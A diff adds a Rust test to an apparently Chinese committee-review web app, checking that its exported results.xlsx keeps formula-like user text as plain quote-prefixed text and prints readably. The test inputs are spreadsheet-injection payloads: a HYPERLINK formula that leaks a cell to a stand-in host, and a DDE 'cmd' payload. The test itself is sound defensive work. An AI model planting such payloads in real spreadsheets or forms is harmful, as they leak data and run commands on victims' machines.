@@ -383,3 +383,61 @@ fn the_demo_played_to_the_report_verifies() {
     assert_eq!(code, 0, "{out}");
     assert!(out.contains("20 applicants' tallies and outcomes agree"), "{out}");
 }
+
+/// results.xlsx with formula-like user text: every text cell is text with a quote prefix (an
+/// edit in Excel/WPS keeps it text), the value itself unchanged; counts are numbers; the sheet
+/// opens readable (frozen bold header, fitted columns) and prints A4 landscape, fit to width.
+#[test]
+fn results_xlsx_keeps_formula_like_text_as_text_and_prints_readably() {
+    let name = "=HYPERLINK(\"http://x.example/?leak=\"&A1,\"点我\")";
+    let opinion = "+1+cmd|' /C calc'!A0";
+    let mut p = committee_package(3, &[("A1", "某小学")], false);
+    p["applicants"][0]["name"] = serde_json::json!(name);
+    let v = Venue::new(&p);
+    let members: Vec<Client> = (1..=3).map(|i| v.login(&format!("E{i:02}"))).collect();
+    for m in &members {
+        assert_eq!(committee_draft(m, &[("A1", "agree")]).status, 303);
+    }
+    assert_eq!(members[0].post_form("/committee/ops/open", &[]).status, 303);
+    for m in &members {
+        assert_eq!(committee_submit(m).status, 303);
+    }
+    let r = members[1].post_form("/committee/report", &[("opinion_A1", opinion), ("action", "submit")]);
+    assert_eq!(r.status, 303, "{}", r.text());
+    let files = unzip(&v.s.data.join(format!("{}-result.zip", p["session"]["id"].as_str().unwrap())));
+    let xlsx = files["results.xlsx"].clone();
+    // The values read back unchanged, as text; the counts as numbers.
+    use calamine::{Data, Reader};
+    let mut wb = calamine::Xlsx::new(std::io::Cursor::new(xlsx.clone())).unwrap();
+    let sheet = wb.worksheet_range("评委会评议").unwrap();
+    assert_eq!(sheet.get_value((1, 1)), Some(&Data::String(name.to_string())));
+    assert_eq!(sheet.get_value((1, 10)), Some(&Data::String(opinion.to_string())));
+    assert_eq!(sheet.get_value((1, 5)), Some(&Data::Float(3.0)), "同意票数 is a number");
+    // The format: quote prefix on text cells, frozen header, landscape, fit to one page wide.
+    let mut z = zip::ZipArchive::new(std::io::Cursor::new(xlsx)).unwrap();
+    let mut read = |n: &str| {
+        let mut s = String::new();
+        std::io::Read::read_to_string(&mut z.by_name(n).unwrap(), &mut s).unwrap();
+        s
+    };
+    let styles = read("xl/styles.xml");
+    assert!(styles.contains("quotePrefix=\"1\""), "{styles}");
+    let ws = read("xl/worksheets/sheet2.xml");
+    assert!(ws.contains("state=\"frozen\""), "frozen header");
+    // Fit to one page wide (fitToWidth defaults to 1), as many pages tall as it takes.
+    assert!(
+        ws.contains("orientation=\"landscape\"") && ws.contains("fitToPage=\"1\"") && ws.contains("fitToHeight=\"0\""),
+        "{ws}"
+    );
+    // 同意票数 (four CJK characters) is wider than the writer's autofit made it (5.6).
+    let width_of = |col: u32| -> f64 {
+        let attr = |tag: &str, name: &str| -> f64 {
+            tag.split(&format!("{name}=\"")).nth(1).unwrap().split('"').next().unwrap().parse().unwrap()
+        };
+        let tag =
+            ws.split("<col ").skip(1).find(|t| attr(t, "min") <= col as f64 && col as f64 <= attr(t, " max")).unwrap();
+        attr(tag, "width")
+    };
+    assert!(width_of(6) >= 9.0, "{ws}");
+    assert!(!ws.contains("<f>"), "no formula anywhere");
+}
